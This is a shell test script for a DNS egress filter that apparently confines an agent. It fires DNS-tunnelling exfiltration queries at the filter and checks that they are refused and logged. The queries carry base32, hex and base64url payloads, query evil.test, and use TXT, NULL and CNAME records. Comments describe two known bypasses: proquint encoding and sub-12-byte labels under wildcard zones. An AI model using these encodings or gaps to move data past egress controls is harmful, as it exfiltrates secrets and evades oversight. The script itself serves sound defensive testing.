#!/usr/bin/env bash
# dns_tunnel.sh - the agent tries to carry data out in DNS queries through bb dns: long labels, high-entropy names, TXT.
. "$(dirname "$0")/../sh/lib.sh"
. "$(dirname "$0")/lib_attack.inc"
need_tools dig dnsmasq python3

A=$(test_addr)
UP=$(test_addr)
while [ "$UP" = "$A" ]; do UP=$(test_addr); done
UPP=$(free_port "$UP")
P=$(free_port "$A")
# The upstream answers everything under the zones and logs every query it gets: a tunnelled name must never show up there.
dnsmasq -k --conf-file=/dev/null --pid-file= --no-resolv --no-hosts --bind-interfaces --listen-address="$UP" \
	--port="$UPP" --address=/wild.test/10.9.9.9 --address=/allowed.test/10.1.2.3 --address=/evil.test/10.6.6.6 \
	--log-queries --log-facility="$T/upstream.log" 2>"$T/dnsmasq.err" &
on_exit "kill_tree $!"
for _ in $(seq 50); do
	[ "$(dig @"$UP" -p "$UPP" +short +time=1 +tries=1 allowed.test 2>/dev/null)" = 10.1.2.3 ] && break
	sleep 0.1
done
cat >"$T/policy.json" <<'JSON'
{"schema":"bb.plan/1","egress":{"routes":[]},"dns":{"allow":["allowed.test","*.wild.test"]}}
JSON
"$BB" dns --policy "$T/policy.json" --listen "$A:$P" --upstream "$UP:$UPP" --log "$T/dns.log" 2>"$T/dns.err" &
on_exit "kill_tree $!"
wait_port "$A" "$P" || { fail "bb dns starts" "$(cat "$T/dns.err")"; exit 1; }

q() { dig @"$A" -p "$P" +time=2 +tries=1 "$@" 2>&1; }
# tunnel NAME QNAME [TYPE]: refused, logged as a denial naming the query, and never forwarded upstream.
tunnel() {
	local name=$1 qn=$2 type=${3:-A} out st
	out=$(q "$qn" "$type")
	st=$(sed -n 's/.*status: \([A-Z]*\),.*/\1/p' <<<"$out" | head -n 1)
	if [ "$st" != REFUSED ] && [ "$st" != NXDOMAIN ]; then
		fail "$name" "status '$st'"
	elif ! grep -iF -- "\"name\":\"$qn\"" "$T/dns.log" | grep -q '"verdict":"deny"'; then
		fail "$name" "no deny line: $(tail -n 1 "$T/dns.log")"
	elif grep -qiF -- "query[$type] $qn " "$T/upstream.log"; then
		fail "$name" "the query reached the upstream resolver"
	else
		ok "$name"
	fi
}
# Fixed payloads: the shape checks are deterministic, so the tests are too (a fresh upstream log each run).
secret=iffusqkjj5jumt2ejzhdorkyifgvatcf         # base32 of an AWS example key id
hexdata=3f9a0c7be41d52a8e3b0c442d1e5f60718293a4b # 20 bytes as hex
tunnel "a long base32 label under an allowed wildcard zone" "${secret:0:38}.wild.test"
tunnel "a 63-byte label (the DNS maximum)" "$(printf 'a%.0s' $(seq 63)).wild.test"
tunnel "a hex label carrying data" "${hexdata:0:32}.wild.test"
tunnel "a base64url label (mixed case, digits)" "cGFzc3dvcmQ9aHVudGVyMiE.wild.test"
tunnel "data spread over many short labels" "$(echo "$hexdata" | sed 's/\(....\)/\1./g')wild.test"
tunnel "data under a zone the policy never named" "hello.evil.test"
tunnel "a TXT query on an allowed name (the usual tunnel's reply channel)" "allowed.test" TXT
tunnel "a TXT query under the wildcard zone" "x.wild.test" TXT
tunnel "a NULL query (iodine's record type)" "x.wild.test" NULL
tunnel "a CNAME query under the wildcard zone" "${secret:0:20}.wild.test" CNAME

# Data spelled as pronounceable syllables (proquints: 16 bits per 5 letters) has the shape of words: no per-name
# check can tell it from a real host name, so the wildcard zone carries a few bytes per query.
out=$(q +short lusab-babad-gutih.wild.test)
if [ "$out" = 10.9.9.9 ]; then
	skip "proquint-encoded data under a wildcard zone" "residual risk: word-shaped labels pass the shape checks; '*.zone' entries allow a low-rate channel (docs/threat-model.md)"
else
	ok "proquint-encoded data under a wildcard zone"
fi

# The shape checks start at 12 bytes a label: base32 cut into 11-byte labels (four under the zone, about 27 bytes
# of data a query) is not looked at.
out=$(q +short mzxw6ytboi2.dgnzrgq3tq.ojqgi2dgnz.rmzxw6ytbo.wild.test)
if [ "$out" = 10.9.9.9 ]; then
	skip "base32 data in four 11-byte labels under a wildcard zone" "residual risk: labels under 12 bytes are not shape-checked; '*.zone' entries carry ~27 bytes a query (docs/threat-model.md)"
else
	ok "base32 data in four 11-byte labels under a wildcard zone"
fi

# The control: an ordinary name under the zone is answered, so the refusals above are the shape checks.
out=$(q +short cdn.wild.test)
# ...and the upstream's log shows forwarded queries, so the absence checks above mean something.
if [ "$out" = 10.9.9.9 ] && grep -qF "query[A] cdn.wild.test " "$T/upstream.log"; then
	ok "control: an ordinary name under the zone is answered, and the upstream logs it"
else
	fail "control name" "$out $(tail -n 2 "$T/upstream.log")"
fi
